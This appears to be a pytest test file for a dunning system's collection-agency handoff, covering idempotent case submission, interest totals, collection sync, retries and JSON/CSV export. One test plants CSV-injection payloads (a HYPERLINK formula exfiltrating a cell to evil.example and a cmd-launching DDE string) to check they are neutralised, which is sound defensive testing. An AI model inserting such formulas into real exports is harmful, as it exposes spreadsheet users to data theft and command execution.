"""Collection agency handoff: an approved case goes to the agency once, whatever the network
does; what the agency collects reduces and closes invoices; a case given up goes to write-off
review; agencies without an API get the same cases as files."""

from __future__ import annotations

import base64
import csv
import json
import os
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from dunning.channels.agency.client import AgencyClient
from dunning.channels.agency.models import AgencyCase, schemas
from dunning.demo.agency import AgencyDouble, running
from dunning.errors import ConfigError, DeliveryError
from dunning.policy import Agency
from dunning.report import markdown
from dunning.settings import given_secrets
from tests.conftest import REPO, Portfolio, query
from tests.helpers import approve_pending, as_json, cli, day, run

pytestmark = pytest.mark.usefixtures("prefect_server")
TOKEN = "test-token-6f1d"
SIREN = "732 829 320"  # the sample creditor's; the debtor below has its own valid one
DEBTOR_SIREN = "404 833 048"

# A short ladder: reminder, formal notice (approved), agency (approved), injunction.
LADDER = [
    {"name": "friendly_reminder", "channel": "email", "days_after_due": 3,
     "template": "friendly_reminder"},
    {"name": "formal_notice", "channel": "letter", "days_after_due": 10,
     "requires_approval": True, "template": "formal_notice"},
    {"name": "collection_agency", "channel": "agency", "days_after_due": 20,
     "min_days_since_previous": 3, "requires_approval": True},
]


@pytest.fixture
def agency(monkeypatch: pytest.MonkeyPatch) -> Iterator[AgencyDouble]:
    monkeypatch.setenv("DUNNING_AGENCY_TOKEN", TOKEN)
    with running(TOKEN, insolvent={"C9"}) as double:
        yield double


def configure(policy_file: Path, agency_url: str | None, **agency: Any) -> None:
    data = yaml.safe_load(policy_file.read_text(encoding="utf-8"))
    data["stages"] = LADDER
    data["law"] = {"rate": "12.15"}  # the 2026-H2 reference rate is not in rates.yaml yet
    data["agency"] = {"url": agency_url, "timeout": 2, "retries": 2, "backoff": 0} | agency
    policy_file.write_text(yaml.safe_dump(data), encoding="utf-8")


def seed(portfolio: Portfolio, customer: str = "C1") -> None:
    portfolio.customer(customer, name="Debtor & Co", language="fr", country="FR")
    portfolio.customers[customer] |= {"address": "3 rue du Port\n75001 Paris",
                                      "legal_id": f"SIREN {DEBTOR_SIREN}"}
    portfolio.invoice(f"{customer}-I1", customer, due=day(-40), amount="1500.00")
    portfolio.invoice(f"{customer}-I2", customer, due=day(-35), amount="700.00")
    portfolio.write()


def hand_over(portfolio: Portfolio) -> int:
    """Up the ladder to an approved agency action; returns its id."""
    run(day(0))  # friendly reminder
    run(day(1))  # formal notice proposed
    approve_pending("formal_notice")
    assert run(day(2))["letters"]["sent"] == 1
    run(day(5))  # agency proposed (3 days after the notice)
    return approve_pending("collection_agency")


def test_an_approved_case_reaches_the_agency_once(portfolio: Portfolio, policy_file: Path,
                                                  agency: AgencyDouble, db_url: str) -> None:
    configure(policy_file, agency.url)
    seed(portfolio)
    action_id = hand_over(portfolio)
    report = run(day(6))
    assert (report["agency"]["sent"], report["agency"]["failed"]) == (1, 0)
    (case,) = agency.cases.values()
    ((dedupe_key,),) = query(db_url, "SELECT dedupe_key FROM action WHERE id = :i", i=action_id)
    assert case.key == dedupe_key
    posts = [headers for method, _, headers in agency.requests if method == "POST"]
    assert posts[0]["Authorization"] == f"Bearer {TOKEN}"
    assert posts[0]["Idempotency-Key"] == dedupe_key

    body = case.body
    jsonschema.validate(body, json.loads((REPO / "schemas" / "agency-case.schema.json")
                                         .read_text(encoding="utf-8")))
    assert body["debtor"]["legal_id"] == f"SIREN {DEBTOR_SIREN}"
    assert body["debtor"]["email"] == ["ap@c1.example"]
    assert body["creditor"]["legal_id"] == f"SIREN {SIREN}"
    invoices = {i["invoice_id"]: i for i in body["invoices"]}
    # C1-I1: 1500 open, due 2026-09-23, case on 2026-11-08 (day 6): 46 days at 12.15 %
    # 1500 x 0.1215 x 46 / 365 = 22.968 -> 22.97; EUR 40 per invoice.
    assert invoices["C1-I1"]["interest"] == "22.97"
    assert invoices["C1-I1"]["compensation"] == "40.00"
    assert invoices["C1-I1"]["days_overdue"] == 46
    # C1-I2: 700, 41 days: 700 x 0.1215 x 41 / 365 = 9.553 -> 9.55
    assert invoices["C1-I2"]["interest"] == "9.55"
    (total,) = body["totals"]
    assert total == {"currency": "EUR", "principal": "2200.00", "interest": "32.52",
                     "compensation": "80.00", "total": "2312.52"}
    events = [(h["event"], h["stage"]) for h in body["history"]]
    assert ("stage", "friendly_reminder") in events and ("message", "formal_notice") in events
    (notice,) = body["documents"]
    letter = Path(query(db_url, "SELECT document FROM action WHERE kind = 'letter'")[0][0])
    assert base64.b64decode(notice["content_base64"]) == letter.read_bytes()

    ((provider, status),) = query(db_url, "SELECT provider_id, status FROM action WHERE id = :i",
                                  i=action_id)
    assert (provider, status) == (f"agency:{case.id}", "sent")
    assert query(db_url, "SELECT agency_case_id, status, channel FROM agency_case") == \
        [(case.id, "open", "api")]

    again = run(day(6))
    assert again["agency"]["sent"] == 0 and len(agency.cases) == 1
    assert [m for m, _, _ in agency.requests].count("POST") == 1


# SQLite only, for the suite's time budget: the other tests of this file cover PostgreSQL.
@pytest.mark.sqlite_only
def test_collections_reduce_then_close_the_invoices(portfolio: Portfolio, policy_file: Path,
                                                    agency: AgencyDouble, db_url: str) -> None:
    configure(policy_file, agency.url)
    seed(portfolio)
    hand_over(portfolio)
    run(day(6))
    first = as_json("agency", "sync")  # the agency has just started
    assert first["updated"] == 0 and first["collected"] == {}

    half = as_json("agency", "sync")  # half of C1-I1
    assert half["collected"] == {"EUR": "750.00"}
    assert as_json("status")[0]["amount_open"] == "750.00"
    # Its open amount changed: the next run evaluates it, whatever its review date said.
    assert query(db_url, "SELECT review_on FROM invoice WHERE external_id = 'C1-I1'") == [(None,)]
    (transition,) = [t for t in as_json("history", "C1-I1") if t["event"] == "collected"]
    assert transition["actor"] == "agency" and "750.00 EUR collected" in transition["detail"]

    # The accounting export does not know yet: the next run keeps what the agency collected.
    report = run(day(7))
    assert report["agency_sync"]["collected"] == {"EUR": "750.00"}  # the rest of C1-I1
    by_id = {row["invoice_id"]: row for row in as_json("status")}
    assert by_id["C1-I1"]["state"] == "closed"
    assert by_id["C1-I2"]["amount_open"] == "700.00"
    assert any(t["event"] == "settled" and "agency" in (t["detail"] or "")
               for t in as_json("history", "C1-I1"))
    run(day(8))  # and still closed a day later, though the export still shows it open
    assert {r["invoice_id"]: r["state"] for r in as_json("status")}["C1-I1"] == "closed"

    while agency.cases["AG-00001"].status == "open":
        cli("agency", "sync")
    assert query(db_url, "SELECT status, collected FROM agency_case")[0][0] == "collected"
    assert {r["state"] for r in as_json("status")} == {"closed"}
    # When the remittance is booked, the export drops the invoices: nothing changes again.
    portfolio.remove("C1-I1")
    portfolio.remove("C1-I2")
    portfolio.write()
    assert run(day(9))["reconcile"]["settled"] == 0


@pytest.mark.sqlite_only
def test_a_case_given_up_goes_to_write_off_review(portfolio: Portfolio, policy_file: Path,
                                                  agency: AgencyDouble) -> None:
    configure(policy_file, agency.url)
    seed(portfolio, "C9")  # the double's insolvent debtor
    hand_over(portfolio)
    run(day(6))
    for _ in range(3):
        result = cli("agency", "sync", "--json")
        assert result.exit_code == 0, result.stderr
    rows = {r["invoice_id"]: r for r in as_json("status")}
    assert {r["state"] for r in rows.values()} == {"paused"}
    assert {r["state_reason"] for r in rows.values()} == {"write_off_review"}
    paused = [t for t in as_json("history", "C9-I1") if t["event"] == "paused"]
    assert "judicial liquidation" in paused[0]["reason"]
    assert run(day(12))["evaluation"]["entered"] == {}, "nobody is dunned during the review"

    result = cli("resolve", "C9-I1", "--by", "Claire")
    assert result.exit_code == 0, result.stderr
    assert {r["invoice_id"]: r["state"] for r in as_json("status")}["C9-I1"] == "active"


@pytest.mark.sqlite_only
def test_a_refused_case_fails_with_the_agencys_words(portfolio: Portfolio, policy_file: Path,
                                                     agency: AgencyDouble) -> None:
    configure(policy_file, agency.url)
    seed(portfolio)
    action_id = hand_over(portfolio)
    agency.fail_before = [422]
    report = run(day(6))
    assert report["agency"]["failed"] == 1
    (failed,) = [a for a in as_json("actions", "--status", "failed")
                 if a["action_id"] == action_id]
    assert "refused the case (422)" in failed["last_error"]
    assert "temporarily unavailable" in failed["last_error"]
    assert run(day(7))["agency"]["sent"] == 0, "a 4xx is not retried"


@pytest.mark.sqlite_only
def test_without_the_token_the_run_goes_on_and_the_case_waits(
        portfolio: Portfolio, policy_file: Path, agency: AgencyDouble,
        monkeypatch: pytest.MonkeyPatch) -> None:
    configure(policy_file, agency.url)
    seed(portfolio)
    action_id = hand_over(portfolio)
    monkeypatch.delenv("DUNNING_AGENCY_TOKEN")
    report = run(day(6))
    assert "DUNNING_AGENCY_TOKEN" in report["agency"]["errors"][0]["error"]
    assert agency.cases == {}
    assert [a["status"] for a in as_json("actions") if a["action_id"] == action_id] == \
        ["approved"]
    # The report a person reads says why, not just "1 error".
    reason = ("collection agency: agency.token_env: the environment variable "
              "DUNNING_AGENCY_TOKEN holding the agency's bearer token is not set")
    printed = cli("run", "--as-of", day(6).isoformat())
    assert printed.exit_code == 0, printed.stderr
    assert f"  {reason}" in printed.stdout.splitlines()
    assert f"- {reason}" in markdown(report)
    dry = run(day(6), "--dry-run")
    monkeypatch.setenv("DUNNING_AGENCY_TOKEN", TOKEN)
    sent = run(day(7))
    assert sent["agency"]["sent"] == 1
    # Real reports hold None (no action or customer for that error, no shard, an empty
    # agency sync in a dry run): the artifact never shows it.
    for each in (report, dry, sent):
        assert "None" not in markdown(each)


@pytest.mark.sqlite_only
def test_export_writes_the_cases_as_json_and_csv(portfolio: Portfolio, policy_file: Path,
                                                 workdir: Path, db_url: str) -> None:
    configure(policy_file, None)
    seed(portfolio)
    action_id = hand_over(portfolio)
    report = run(day(6))
    assert report["agency"]["sent"] == 0
    assert report["outstanding"]["agency"] == {"approved": 1}

    out = workdir / "handoff"
    result = as_json("agency", "export", "--out", str(out))
    assert (result["exported"], result["failed"]) == (1, 0)
    (path,) = [Path(p) for p in result["files"]]
    case = json.loads(path.read_text(encoding="utf-8"))
    jsonschema.validate(case, schemas()["agency-case.schema.json"])
    assert case["reference"] == f"C1-{action_id:06d}"
    with (out / "cases.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["reference"], r["invoice_id"], r["amount_open"]) for r in rows] == [
        (case["reference"], "C1-I1", "1500.00"), (case["reference"], "C1-I2", "700.00")]
    assert query(db_url, "SELECT channel, agency_case_id FROM agency_case") == [("export", None)]

    again = as_json("agency", "export", "--out", str(out))
    assert again["exported"] == 0, "a case is handed over once"
    with (out / "cases.csv").open(encoding="utf-8") as handle:
        assert len(list(csv.DictReader(handle))) == 2
    assert cli("agency", "sync").exit_code == 2, "no API to ask"


@pytest.mark.sqlite_only
def test_export_into_a_shared_folder_leaves_other_files_and_neutralises_formulas(
        portfolio: Portfolio, policy_file: Path, workdir: Path) -> None:
    """The export folder may hold other files: they are left alone, and named. cases.csv is
    opened in a spreadsheet: a formula in a name or number is shown as text (OWASP)."""
    configure(policy_file, None)
    seed(portfolio)
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    portfolio.customers["C1"]["name"] = hyperlink
    portfolio.invoices["C1-I1"]["number"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    portfolio.write()
    hand_over(portfolio)
    run(day(6))
    out = workdir / "shared"
    out.mkdir()
    foreign = {"settings.json": '{"theme": "dark"}', "list.json": "[1, 2]",
               "broken.json": "{not json", "ledger.csv": "=1+1\n", "notes.txt": "hello"}
    for name, text in foreign.items():
        (out / name).write_text(text, encoding="utf-8")

    result = cli("agency", "export", "--out", str(out), "--json")
    assert result.exit_code == 0, (result.stdout, result.stderr, result.exception)
    assert json.loads(result.stdout)["exported"] == 1
    for name in ("broken.json", "list.json", "settings.json"):
        assert f"{out / name}: not an agency case written by dunning; left out of cases.csv" \
            in result.stderr
    assert {name: (out / name).read_text(encoding="utf-8") for name in foreign} == foreign
    with (out / "cases.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["invoice_id"], r["debtor"], r["number"], r["amount_open"]) for r in rows] == [
        ("C1-I1", "'" + hyperlink, "'@SUM(1+1)*cmd|' /C calc'!A0", "1500.00"),
        ("C1-I2", "'" + hyperlink, "F-C1-I2", "700.00")]
    assert rows[0]["phone"] == "'+33 1 00 00 00 00"

    assert cli("agency", "export", "--out", str(out / "notes.txt")).exit_code == 2


# --- the client against the double: retries never open a second case -----------------------


def _case() -> AgencyCase:
    return AgencyCase.model_validate({
        "reference": "C1-000001", "created_on": "2026-11-08", "law": "test",
        "creditor": {"name": "Atelier"},
        "debtor": {"customer_id": "C1", "name": "Debtor", "language": "fr"},
        "invoices": [{"invoice_id": "I1", "number": "F1", "issue_date": None,
                      "due_date": "2026-09-23", "currency": "EUR", "amount": "10.00",
                      "amount_open": "10.00", "days_overdue": 46, "interest": "0.15",
                      "compensation": "40.00", "compensation_currency": "EUR"}],
        "totals": [], "history": [], "documents": []})


def _client(agency: AgencyDouble, **settings: Any) -> AgencyClient:
    return AgencyClient(Agency(url=agency.url, **({"retries": 3, "backoff": 0, "timeout": 1}
                                                  | settings)))


def test_5xx_and_429_are_retried_with_the_same_key(agency: AgencyDouble) -> None:
    agency.fail_before = [500, 429, 503]
    assert _client(agency).open_case(_case(), "key-1") == "AG-00001"
    keys = [h["Idempotency-Key"] for m, _, h in agency.requests if m == "POST"]
    assert keys == ["key-1"] * 4 and len(agency.cases) == 1


def test_a_lost_answer_does_not_open_a_second_case(agency: AgencyDouble) -> None:
    agency.fail_after = [502]  # the case was stored, the answer lost
    assert _client(agency).open_case(_case(), "key-2") == "AG-00001"  # then 409 with its id
    assert len(agency.cases) == 1


def test_a_slow_agency_is_retried_after_the_timeout(agency: AgencyDouble) -> None:
    agency.delay = [3.0]  # longer than the 1 s timeout, once
    assert _client(agency).open_case(_case(), "key-3") == "AG-00001"
    assert len(agency.cases) == 1


def test_retries_spent_leave_a_retryable_failure(agency: AgencyDouble) -> None:
    agency.fail_before = [500] * 4
    with pytest.raises(DeliveryError) as caught:
        _client(agency, retries=2).open_case(_case(), "key-4")
    assert caught.value.retryable and "500" in str(caught.value)
    assert agency.cases == {} and len(agency.fail_before) == 1


def test_a_bad_token_is_a_refusal_not_a_retry(agency: AgencyDouble,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DUNNING_AGENCY_TOKEN", "wrong")
    with pytest.raises(DeliveryError) as caught:
        _client(agency).open_case(_case(), "key-5")
    assert not caught.value.retryable and "401" in str(caught.value)
    assert len(agency.requests) == 1


def test_the_token_must_be_set(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DUNNING_AGENCY_TOKEN", raising=False)
    with pytest.raises(ConfigError, match="DUNNING_AGENCY_TOKEN"):
        AgencyClient(Agency(url="http://127.0.0.1:9/api"))


def test_a_token_given_in_process_comes_before_the_environment(
        agency: AgencyDouble, monkeypatch: pytest.MonkeyPatch) -> None:
    """As `dunning demo` gives its stand-in agency's token: a real one in the environment is
    neither sent to the stand-in nor changed."""
    monkeypatch.setenv("DUNNING_AGENCY_TOKEN", "the-real-one")
    with given_secrets(DUNNING_AGENCY_TOKEN=TOKEN):
        assert _client(agency).open_case(_case(), "key-6") == "AG-00001"
    assert os.environ["DUNNING_AGENCY_TOKEN"] == "the-real-one"
    with pytest.raises(DeliveryError, match="401"):
        _client(agency).open_case(_case(), "key-7")


def test_the_published_schemas_match_the_code() -> None:
    for name, schema in schemas().items():
        published = json.loads((REPO / "schemas" / name).read_text(encoding="utf-8"))
        assert published == schema, f"schemas/{name} is stale: run `make schemas`"


def test_status_amounts_are_exact() -> None:
    from dunning.channels.agency.models import CaseStatus

    status = CaseStatus.model_validate({"id": "A", "status": "open", "invoices": [
        {"invoice_id": "I1", "collected": "0.1"}, {"invoice_id": "I2", "collected": "0.2"}]})
    assert sum(Decimal(i.collected) for i in status.invoices) == Decimal("0.3")
    with pytest.raises(ValueError):
        CaseStatus.model_validate({"id": "A", "status": "lost"})
